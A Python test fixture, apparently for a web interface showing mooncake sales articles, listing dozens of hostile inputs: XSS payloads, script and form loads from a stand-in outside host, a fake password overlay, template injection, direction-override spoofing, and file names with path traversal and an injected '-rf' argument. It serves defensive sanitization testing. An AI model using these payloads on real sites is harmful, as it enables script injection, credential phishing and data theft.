"""Hostile texts: what is tried as article, title, file name, question, answer and turn of history."""

from __future__ import annotations

OUT = "http://outside.example"

#: Name of the trick -> the text. ``boom()`` must never run and ``outside.example`` never be asked for.
TRICKS: dict[str, str] = {
    # scripts and event handlers
    "script": "<script>boom()</script>",
    "script, torn": "<scr<script>ipt>boom()</scr</script>ipt>",
    "script, odd case and slash": "<ScRiPt/x>boom()</sCrIpT>",
    "script from outside": f"<script src={OUT}/x.js></script>",
    "closing what it may stand in": "</bdi></p></button></li></mark></template></textarea></title></style>"
    "</script><script>boom()</script>",
    "broken image": "<img src=x onerror=boom()>",
    "attribute broken out of": "\" autofocus onfocus=boom() tabindex=1 x=\" ' onmouseover='boom()",
    "drawing": "<svg/onload=boom()><animate onbegin=boom() attributeName=x dur=1s></svg>",
    "drawing's link": "<svg><a xlink:href='javascript:boom()'><text y=20>x</text></a></svg>",
    "details": "<details open ontoggle=boom()>x</details>",
    "popover": "<button popovertarget=p>x</button><div id=p popover onbeforetoggle=boom()>y</div>",
    "video": "<video><source onerror=boom()></video><audio src=x onerror=boom()>",
    "marquee": "<marquee onstart=boom()>x</marquee>",
    "content editable": "<div contenteditable onfocusin=boom() autofocus>x</div>",
    # links
    "javascript link": "<a href='javascript:boom()'>月饼</a>",
    "javascript link, hidden": "<a href='jav&#x09;ascript&colon;boom()'>x</a>"
    '<a href=" javascript:boom()">x</a>',
    "data link": "<a href='data:text/html,<script>opener.boom()</script>'>x</a>",
    "vbscript link": "<a href='vbscript:boom()'>x</a>",
    "base": f"<base href='{OUT}/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={OUT}'>",
    # from outside
    "image from outside": f"<img src={OUT}/a.png srcset='//outside.example/b.png 2x'>",
    "frame": f"<iframe src={OUT} srcdoc='<script>parent.boom()</script>'></iframe>",
    "object": f"<object data={OUT}/o></object><embed src={OUT}/e><applet code=x>",
    "style from outside": f"<link rel=stylesheet href={OUT}/s.css><style>@import '{OUT}/i.css';</style>",
    "font from outside": f"<style>@font-face{{font-family:x;src:url({OUT}/f)}} *{{font-family:x}}</style>",
    "prefetch": f"<link rel=prefetch href={OUT}/p><link rel=dns-prefetch href={OUT}>",
    "form": f"<form action={OUT}><input name=q autofocus><button>发送</button></form>",
    "beacon": f"<a ping={OUT}/ping href=#>x</a><body background={OUT}/b.png>",
    # covering the page
    "covering style": "<style>*{display:none!important} html{filter:invert(1)}</style>",
    "covering element": "<div style='position:fixed;inset:0;z-index:99999;background:red'>covered</div>",
    "dialog": "<dialog open style='inset:0'>Password?<input></dialog>",
    "ids and names of the page": "<form id=question name=desk><img name=getElementById id=settings></form>",
    "classes of the page": "<button class='cite' data-n=1>1</button>"
    "<div class='turn done'><div class=answer></div>",
    # Markdown, templates
    "Markdown link": "[月饼](javascript:boom()) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "Markdown image": f"![x]({OUT}/m.png) ![x][1]\n\n[1]: {OUT}/r.png",
    "Markdown with HTML": "`<b onmouseover=boom()>`\n\n```html\n<script>boom()</script>\n```"
    "\n\n<!-- --><script>boom()</script>",
    "automatic link": f"<{OUT}> {OUT} www.outside.example",
    "table": "| a | b |\n|---|---|\n| <img src=x onerror=boom()> | x |",
    "templates": "{{boom()}} ${boom()} {% raw %} <%= boom() %> {0} {1} %s #{boom()} {{#each x}}",
    "mathematics": "$\\href{javascript:boom()}{x}$ $$\\includegraphics{http://outside.example/l.png}$$",
    "citation marks": "[1][99][0][-1][１][[1]] ［1］",
    "words of the program": '" data-t="stopped" data-args="[1]" data-document="x',
    # characters
    "direction override": "\u202e3.8亿 \u2066\u2067abc\u2069 \u200f\u202d 月饼\u202c",
    "direction override in a name": "月饼\u202egnp.exe",
    "invisible": "月\u200b\u200c\u200d\u2060\ufeff饼\u00ad的单价\u034f",
    "control": "月\x01\x08\x0b\x0c\x1b[31m\x7f\x9b饼\u2028\u2029",
    "piled marks": "月" + "\u0301\u0336\u20dd" * 200 + "饼",
    "no character": "\ufffe\uffff\U0001fffe 月饼",
    "one long word": "W" * 3000,
    "one long line of dots": "…" * 3000,
    "wide signs": "﷽" * 60 + "𒐫" * 60,
    "many lines": "月饼\n" * 400,
    "entities": "&lt;script&gt;boom()&lt;/script&gt; &#60;img src=x onerror=boom()&#62;&amp;amp; &nbsp;&zwj;",
    "end of data": "]]> --> */ // <!-- <![CDATA[<script>boom()</script>]]>",
    "JSON": '"}],"state":"done","html":"<img src=x onerror=boom()>"}',
    "as a prototype": "__proto__ constructor toString hasOwnProperty",
}

#: Names of files. A slash or NUL cannot be in one; everything else can.
FILE_NAMES = (
    "<img src=x onerror=boom()>.md",
    "'\"><script>boom()<script>.txt",
    "月饼\u202egnp.txt",
    "javascript:boom().md",
    "&lt;b&gt;{{boom()}}${boom()}.md",
    "%2e%2e%2f..%2fetc%2fpasswd.md",
    "-rf --help.txt",
    "换\n行.md",
    "W" * 200 + ".txt",
    " .md",
)


def article(trick: str, number: int) -> str:
    """An article that tries a trick in its metadata, its offered question, its headings and its text."""
    quoted = "'" + " ".join(trick.split()).replace("'", "''") + "'"
    plain = "".join(
        one for one in quoted if one.isprintable() or one in "\u202e\u202d\u2066\u2067\u2069\u202c\u200f"
    )
    return (
        f"---\ntitle: {plain}\nauthor: {plain}\npublisher: {plain}\n---\n"
        f"# {trick}\n\n第{number}号礼盒里月饼的单价是{30 + number}元{trick}。\n\n{trick}\n\n## {trick}\n\n"
        f"第{number}号礼盒的销量是{900 + number}盒。\n"
    )
